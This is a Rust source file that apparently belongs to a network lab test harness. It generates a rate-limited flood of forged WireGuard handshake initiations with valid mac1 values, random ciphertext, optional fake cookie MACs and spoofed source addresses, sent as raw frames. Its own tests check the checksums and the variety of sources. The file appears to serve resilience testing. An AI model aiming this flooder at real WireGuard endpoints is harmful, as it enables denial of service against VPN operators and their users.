//! A flood of WireGuard handshake initiations from addresses that do not exist.
//!
//! Each has a right `mac1`, which takes nothing but the victim's public key, so it is not refused at first sight; what is
//! encrypted in it is noise. A responder that did a Diffie-Hellman for each would do nothing else any more. With a second MAC
//! it pretends to have a cookie, which the responder has to find out.
//!
//! Attackers have machines of their own, and this generator runs on the victim's. So it is to cost as little as it can:
//! the messages are made beforehand and sent again and again, which no responder notices before it has decrypted them; each
//! time they come from another source, which `mac1` does not cover; and they leave as whole frames, many with one call.

use std::hash::{BuildHasher, RandomState};
use std::io::IoSlice;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4};
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use blake2::digest::consts::U16;
use blake2::digest::{Digest, FixedOutput, KeyInit, Mac};
use blake2::{Blake2s256, Blake2sMac};
use rustix::net::{MMsgHdr, SendAncillaryBuffer, SendFlags, sendmmsg};

use super::over;
use crate::lab::Namespace;
use crate::lab::packet_socket::{self, Frames};

/// Length of a handshake initiation.
const INITIATION: usize = 148;
/// Where `mac1` is in it, and `mac2`, all zero without a cookie.
const MAC1: usize = 116;
const MAC2: usize = MAC1 + 16;
const ETHERNET: usize = 14;
const IPV4: usize = 20;
const UDP: usize = 8;
const PROTOCOL_UDP: u8 = 17;
/// Where sums over the IP header, over UDP's pseudo-header and datagram, and the message begin.
const IP_AT: usize = ETHERNET;
const ADDRESSES_AT: usize = IP_AT + 12;
const UDP_AT: usize = IP_AT + IPV4;
const MESSAGE_AT: usize = UDP_AT + UDP;
const FRAME: usize = MESSAGE_AT + INITIATION;
/// Different messages.
const POOL: usize = 1024;
/// Frames that leave with one call.
const BATCH: usize = 64;
const PAUSE: Duration = Duration::from_millis(1);
/// Batches between two pauses at most: who was kept from running does not make up for it in one go, which would only
/// overflow the next queue.
const BURST: usize = 3;
/// Forged sources are in this network, which is for benchmarks (RFC 2544).
const SOURCES: (Ipv4Addr, u32) = (Ipv4Addr::new(198, 18, 0, 0), 0x1_ffff);
/// The one of [`Sources::One`].
const ONE_SOURCE: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 51_820);
/// The network of the forged sources, for a route that leads answers away.
pub const SOURCE_PREFIX: &str = "198.18.0.0/15";

/// What stands where a cookie's MAC belongs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Cookie {
    /// Nothing, as in a first message.
    Absent,
    /// Noise: looks like a cookie's until it is verified.
    Wrong,
}

/// Where forged messages seem to come from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Sources {
    /// Another address and port each time.
    Many,
    /// Always the same ones.
    One,
}

/// What to send.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// The victim, an IPv4 endpoint on a link of the sender's.
    pub target: SocketAddr,
    /// The victim's public key.
    pub public_key: [u8; 32],
    /// What the messages have for a cookie.
    pub cookie: Cookie,
    /// Where they come from.
    pub sources: Sources,
    /// Initiations a second.
    pub rate: u32,
    /// For how long.
    pub duration: Duration,
}

/// Sends from that namespace, whose kernel has spoken to the target before; returns how many have left.
pub fn run(from: &Namespace, flood: &Flood) -> Result<u64> {
    run_until(from, flood, &AtomicBool::new(false))
}

/// The same, and no longer than until `stop` is set.
pub fn run_until(from: &Namespace, flood: &Flood, stop: &AtomicBool) -> Result<u64> {
    let IpAddr::V4(target) = flood.target.ip() else { bail!("sources are forged over IPv4 only") };
    let neighbour = Neighbour::parse(&from.ip(&format!("neighbour show to {target}"))?)
        .with_context(|| format!("{target} is no known neighbour"))?;
    let target = SocketAddrV4::new(target, flood.target.port());
    let mut forger = Forger::new(flood, neighbour.address, target);
    // Else the next flood would come from where this one has come from, in the same order.
    forger.random = Random(RandomState::new().hash_one(flood.rate) | 1);
    from.run(|| {
        let socket = packet_socket::open(&neighbour.device, Frames::Out).context("a packet socket")?;
        Ok(send(&socket, &mut forger, flood, stop))
    })?
}

fn send(socket: &OwnedFd, forger: &mut Forger, flood: &Flood, stop: &AtomicBool) -> u64 {
    let start = Instant::now();
    let (mut sent, mut tried) = (0, 0);
    while !over(start + flood.duration) && !stop.load(Ordering::Relaxed) {
        let due = (start.elapsed().as_secs_f64() * f64::from(flood.rate)) as usize;
        for _ in 0..BURST {
            let frames = forger.next(BATCH.min(due - tried));
            sent += send_batch(socket, frames);
            tried += frames.len();
        }
        std::thread::sleep(PAUSE);
    }
    sent as u64
}

/// Returns how many have left. A full queue loses some, as it would on any way here.
fn send_batch(socket: &OwnedFd, frames: &[Forged]) -> usize {
    let slices: Vec<_> = frames.iter().map(|forged| [IoSlice::new(&forged.frame)]).collect();
    let mut controls: Vec<_> = frames.iter().map(|_| SendAncillaryBuffer::default()).collect();
    let pairs = slices.iter().zip(&mut controls);
    let mut messages: Vec<_> = pairs.map(|(slice, control)| MMsgHdr::new(slice, control)).collect();
    sendmmsg(socket, &mut messages, SendFlags::empty()).unwrap_or(0)
}

/// Who answers on a link for an address.
#[derive(Debug, PartialEq, Eq)]
struct Neighbour {
    device: String,
    address: [u8; 6],
}

impl Neighbour {
    /// Reads `10.9.0.2 dev under0 lladdr 02:00:00:00:00:01 REACHABLE`.
    fn parse(line: &str) -> Option<Self> {
        let behind = |key| line.split_whitespace().skip_while(|word| *word != key).nth(1);
        let bytes: Option<Vec<u8>> =
            behind("lladdr")?.split(':').map(|byte| u8::from_str_radix(byte, 16).ok()).collect();
        Some(Self { device: behind("dev")?.to_owned(), address: bytes?.try_into().ok()? })
    }
}

/// A frame without its source, and what its checksums are without it.
struct Forged {
    frame: [u8; FRAME],
    ip_sum: u32,
    udp_sum: u32,
}

impl Forged {
    fn new(message: &[u8; INITIATION], link_address: [u8; 6], target: SocketAddrV4) -> Self {
        let mut frame = [0; FRAME];
        frame[..6].copy_from_slice(&link_address);
        // A sender of its own, locally administered.
        (frame[6], frame[11], frame[12]) = (0x02, 0x01, 0x08);
        (frame[IP_AT], frame[IP_AT + 8], frame[IP_AT + 9]) = (0x45, 64, PROTOCOL_UDP);
        frame[IP_AT + 2..][..2].copy_from_slice(&((FRAME - IP_AT) as u16).to_be_bytes());
        frame[ADDRESSES_AT + 4..][..4].copy_from_slice(&target.ip().octets());
        frame[UDP_AT + 2..][..2].copy_from_slice(&target.port().to_be_bytes());
        frame[UDP_AT + 4..][..2].copy_from_slice(&((FRAME - UDP_AT) as u16).to_be_bytes());
        frame[MESSAGE_AT..].copy_from_slice(message);
        let ip_sum = sum(&frame[IP_AT..UDP_AT]);
        let udp_sum = sum(&frame[ADDRESSES_AT..]) + u32::from(PROTOCOL_UDP) + (FRAME - UDP_AT) as u32;
        Self { frame, ip_sum, udp_sum }
    }

    fn set_source(&mut self, source: SocketAddrV4) {
        let (address, port) = (source.ip().octets(), source.port().to_be_bytes());
        self.frame[ADDRESSES_AT..][..4].copy_from_slice(&address);
        self.frame[UDP_AT..][..2].copy_from_slice(&port);
        let ip = checksum(self.ip_sum + sum(&address));
        let udp = checksum(self.udp_sum + sum(&address) + sum(&port));
        self.frame[IP_AT + 10..][..2].copy_from_slice(&ip.to_be_bytes());
        // RFC 768: zero would mean that there is none.
        self.frame[UDP_AT + 6..][..2].copy_from_slice(&(if udp == 0 { 0xffff } else { udp }).to_be_bytes());
    }
}

/// The sum of an even number of bytes as 16-bit words (RFC 1071), not folded.
fn sum(bytes: &[u8]) -> u32 {
    bytes.as_chunks::<2>().0.iter().map(|word| u32::from(u16::from_be_bytes(*word))).sum()
}

fn checksum(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

struct Forger {
    random: Random,
    sources: Sources,
    pool: Vec<Forged>,
    next: usize,
}

impl Forger {
    fn new(flood: &Flood, link_address: [u8; 6], target: SocketAddrV4) -> Self {
        let key = Blake2s256::new().chain_update(b"mac1----").chain_update(flood.public_key).finalize();
        let mac1: Blake2sMac<U16> = KeyInit::new_from_slice(&key).expect("32 bytes are a key");
        let mut random = Random(0x9e37_79b9_7f4a_7c15);
        let mut message = || initiation(&mac1, flood.cookie, &mut random);
        let pool = (0..POOL).map(|_| Forged::new(&message(), link_address, target)).collect();
        Self { random, sources: flood.sources, pool, next: 0 }
    }

    /// The next frames of the pool, at most that many, from somewhere.
    fn next(&mut self, count: usize) -> &[Forged] {
        let start = self.next;
        let end = POOL.min(start + count);
        self.next = end % POOL;
        for forged in &mut self.pool[start..end] {
            forged.set_source(match self.sources {
                Sources::Many => self.random.source(),
                Sources::One => ONE_SOURCE,
            });
        }
        &self.pool[start..end]
    }
}

/// An initiation with a right `mac1`.
fn initiation(mac1: &Blake2sMac<U16>, cookie: Cookie, random: &mut Random) -> [u8; INITIATION] {
    let mut message = [0; INITIATION];
    message[0] = 1;
    random.fill(&mut message[4..MAC1]);
    let mac = Mac::chain_update(mac1.clone(), &message[..MAC1]).finalize_fixed();
    message[MAC1..MAC2].copy_from_slice(&mac);
    if cookie == Cookie::Wrong {
        random.fill(&mut message[MAC2..]);
    }
    message
}

/// xorshift64*, Vigna 2016.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn fill(&mut self, bytes: &mut [u8]) {
        for chunk in bytes.chunks_mut(8) {
            chunk.copy_from_slice(&self.next().to_le_bytes()[..chunk.len()]);
        }
    }

    fn source(&mut self) -> SocketAddrV4 {
        let ((network, hosts), random) = (SOURCES, self.next());
        let port = 1024 + ((random >> 32) % 60_000) as u16;
        SocketAddrV4::new(Ipv4Addr::from_bits(network.to_bits() | random as u32 & hosts), port)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const TARGET: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(10, 9, 0, 2), 51820);

    /// A million a second of them.
    fn flood(key: u8, cookie: Cookie, sources: Sources) -> Flood {
        let (target, duration) = (TARGET.into(), Duration::from_secs(1));
        Flood { target, public_key: [key; 32], cookie, sources, rate: 1_000_000, duration }
    }

    fn forger(flood: &Flood) -> Forger {
        Forger::new(flood, [2; 6], TARGET)
    }

    fn first_message(key: u8, cookie: Cookie) -> [u8; INITIATION] {
        forger(&flood(key, cookie, Sources::Many)).next(1)[0].frame[MESSAGE_AT..].try_into().unwrap()
    }

    #[test]
    fn mac1_covers_what_stands_before_it_and_depends_on_the_key() {
        let [one, same, other] = [7, 7, 8].map(|key| first_message(key, Cookie::Absent));
        assert_eq!(one, same);
        assert_eq!(one[..MAC1], other[..MAC1]);
        assert_ne!(one[MAC1..MAC2], other[MAC1..MAC2]);
        assert_eq!(one[MAC2..], [0; 16]);
    }

    #[test]
    fn a_wrong_cookie_changes_nothing_but_the_second_mac() {
        let [without, with] = [Cookie::Absent, Cookie::Wrong].map(|cookie| first_message(7, cookie));
        assert_eq!(without[..MAC2], with[..MAC2]);
        assert_ne!(with[MAC2..], [0; 16]);
    }

    #[test]
    fn a_forged_frame_has_right_checksums_and_a_new_source_each_time_if_it_is_to_have() {
        for (sources, expected) in [(Sources::Many, 2 * POOL), (Sources::One, 1)] {
            assert_eq!(checked_sources(&mut forger(&flood(7, Cookie::Absent, sources))), expected);
        }
    }

    /// How many sources a while's frames have, all of them with right checksums.
    fn checked_sources(forger: &mut Forger) -> usize {
        let mut sources = std::collections::HashSet::new();
        for _ in 0..2 * POOL / BATCH {
            for Forged { frame, .. } in forger.next(BATCH) {
                // With the right checksum in its field the sum is all ones, so the checksum over it is zero.
                assert_eq!(checksum(sum(&frame[IP_AT..UDP_AT])), 0);
                let pseudo_header = u32::from(PROTOCOL_UDP) + (FRAME - UDP_AT) as u32;
                assert_eq!(checksum(sum(&frame[ADDRESSES_AT..]) + pseudo_header), 0);
                sources.insert((frame[ADDRESSES_AT..][..4].to_vec(), frame[UDP_AT..][..2].to_vec()));
            }
        }
        sources.len()
    }

    #[test]
    fn a_neighbour_is_read_as_ip_prints_it() {
        let known = Neighbour::parse("10.9.0.2 dev under0 lladdr 02:aa:00:00:00:01 REACHABLE\n");
        assert_eq!(known, Some(Neighbour { device: "under0".to_owned(), address: [2, 0xaa, 0, 0, 0, 1] }));
        assert_eq!(Neighbour::parse("10.9.0.2 dev under0 FAILED"), None);
        assert_eq!(Neighbour::parse(""), None);
    }
}
